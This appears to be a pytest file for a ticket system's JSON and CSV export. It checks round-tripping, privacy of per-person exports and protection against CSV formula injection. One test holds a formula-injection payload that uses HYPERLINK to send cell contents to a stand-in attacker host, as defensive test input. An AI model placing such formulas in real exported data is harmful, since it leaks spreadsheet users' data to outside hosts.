"""Export: a JSON file that stock TinyDB opens, and a CSV file whose cells are never formulas."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tinydb import TinyDB, where

from tests.archive.desks import BOB, MALLORY, NOON, TEXTS, question
from ticket_api.archive import erase
from ticket_api.archive.export import BOM, COLUMNS, Export, cell
from ticket_api.store.records import Search
from ticket_api.tickets import ticket as tickets
from ticket_api.tickets.event import Act

FORMULAS = "=+-@\t\r\n＝＋－＠"


def as_json(desk, address="") -> bytes:
    file = io.BytesIO()
    with desk.store.snapshot() as snapshot:
        Export(snapshot, address).write_json(file)
    return file.getvalue()


def as_csv(desk, address="") -> list[dict[str, str]]:
    file = io.BytesIO()
    with desk.store.snapshot() as snapshot:
        Export(snapshot, address).write_csv(file)
    text = file.getvalue().decode("utf-8")
    assert text.startswith(BOM)
    assert text.count(BOM + '"id"') == 1
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))


def test_stock_tinydb_opens_it(desk, tmp_path):
    (tmp_path / "all.json").write_bytes(as_json(desk))
    with TinyDB(tmp_path / "all.json") as db:
        assert db.tables() == {"tickets", "events", "mails", "drafts", "customers", "orders", "feedback", "searches"}
        assert {each.doc_id for each in db.table("tickets")} == set(range(1, 14)) - {7}
        found = db.table("tickets").get(where("email") == BOB)
        assert found["messages"][0]["text"] == f"{TEXTS[2]} 2"
        assert [each["what"] for each in db.table("events").search(where("ticket") == 7)] == ["asked", "erased"]
        assert db.table("tickets").insert({"more": True}) == 14
        assert db.table("mails").get(doc_id=1)["text"] == TEXTS[0]
        assert db.table("drafts").get(doc_id=6)["content"] == f"{TEXTS[1]} draft:6"
        assert {each["comment"] for each in db.table("feedback")} == set(TEXTS[:3])
        assert {each["q"] for each in db.table("searches")} == set(TEXTS[:4])


def test_every_text_comes_out_as_it_went_in(desk):
    """F18, in JSON and in CSV."""
    wanted = {f"{TEXTS[number % 7]} {number}" for number in range(1, 15) if number % 7}
    assert {each["messages"][0]["text"] for each in json.loads(as_json(desk))["tickets"].values()} == wanted
    rows = as_csv(desk)
    assert {row["question"].removeprefix("'") for row in rows} == wanted
    assert {row["question"] for row in rows if row["question"] in wanted} == {
        text for text in wanted if text[0] not in FORMULAS
    }


def test_searches_are_a_table_of_their_own(desk):
    desk.store.add_search(Search(q="refund", lang="en", results=3, opened="a/b", day=NOON.date(), count=5), most=9)
    desk.store.add_search(Search(q="=1+1", lang="en", results=0, day=NOON.date()), most=9)
    file = io.BytesIO()
    with desk.store.snapshot() as snapshot:
        Export(snapshot).write_searches(file)
    rows = list(csv.DictReader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))
    first = {"day": "2026-11-21", "lang": "en", "q": "refund", "results": "3", "opened": "a/b", "count": "5"}
    assert (rows[0], len(rows)) == (first, 6)
    assert {"'=1+1"} <= {row["q"] for row in rows}


def test_no_secret_no_session_and_no_owner(desk):
    text = as_json(desk).decode()
    for secret in ("link-2", "request-2", f"{2:032x}", "argon2", "a" * 64, "c" * 64):
        assert secret not in text
    assert not {"link", "uid", "request"} & set(COLUMNS)
    assert "preferences" not in text


def test_all_that_is_stored_of_one_person_and_nothing_of_another(desk):
    erase.erase_tickets(desk.store, [2], Act("owner", "erased", NOON))
    for text in (as_json(desk, " BOB@customer.EXAMPLE ").decode(), str(as_csv(desk, BOB))):
        assert BOB in text
        assert MALLORY not in text
        assert "See *Settings*." in text
    found = json.loads(as_json(desk, BOB))
    assert set(found) == {"tickets", "events", "mails", "drafts", "customers", "orders"}
    assert ([each["ticket"] for each in found["mails"].values()], set(found["drafts"])) == ([6], {"6"})
    assert found["tickets"]["6"]["rating"]["comment"] == "Too slow. 太慢"
    assert len(found["tickets"]["6"]["notes"]) == 2
    assert set(found["tickets"]) == {"4", "6", "8", "10", "12"}
    assert {event["ticket"] for event in found["events"].values()} == {2, 4, 6, 8, 10, 12, 14}
    assert len(found["tickets"]["6"]["messages"]) == 2


def test_somebody_unknown_has_nothing(desk):
    nothing = json.loads(as_json(desk, "nobody@example.org"))
    assert nothing == {"tickets": {}, "events": {}, "mails": {}, "drafts": {}, "customers": {}, "orders": {}}
    assert as_csv(desk, "nobody@example.org") == []


def test_a_row_has_all_that_was_written(desk):
    row = next(row for row in as_csv(desk) if row["id"] == "6")
    assert row["first_reply_at"] == "2026-11-21T12:01:06.000001+00:00"
    assert row["further_messages"] == "owner, 2026-11-21T12:01:06.000001+00:00:\nSee *Settings*."
    assert (row["status"], row["name"], row["email"]) == ("waiting", "Bob", BOB)
    assert (row["tags"], row["priority"], row["rating"]) == ("'=refund, vip", "5", "2")
    assert row["rating_comment"] == "Too slow. 太慢"
    assert row["notes"].startswith("2026-11-21T12:00:00.000001+00:00:\nA note. Charged twice. 重复扣款 😀\n\n2026")
    bare = next(row for row in as_csv(desk) if row["id"] == "4")
    later = ("tags", "priority", "rating", "rating_comment", "notes", "attachments", "snoozed_until", "merged_into")
    assert {bare[each] for each in later} == {""}


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_no_cell_is_ever_a_formula(text):
    for tried in (text, *(f"{begin}{text}" for begin in FORMULAS)):
        made = cell(tried)
        assert not made or made[0] not in FORMULAS
        assert made in (tried, f"'{tried}")
        assert made == tried or tried[0] in FORMULAS


@pytest.mark.parametrize("field", ["name", "subject", "page", "email"])
def test_whatever_a_stranger_fills_in_is_no_formula(desk, field):
    value = '=HYPERLINK("https://mallory.example?"&A1,"x"),=1+1;=2+2'
    made = desk.store.add_ticket(question(50, **{field: value}))
    desk.store.change_ticket(made.id, lambda one: tickets.write(one, value, NOON), Act("requester", "wrote", NOON))
    for row in as_csv(desk):
        assert not any(text and text[0] in FORMULAS for text in row.values())
    assert next(row for row in as_csv(desk) if row["id"] == str(made.id))[field] == f"'{value}"
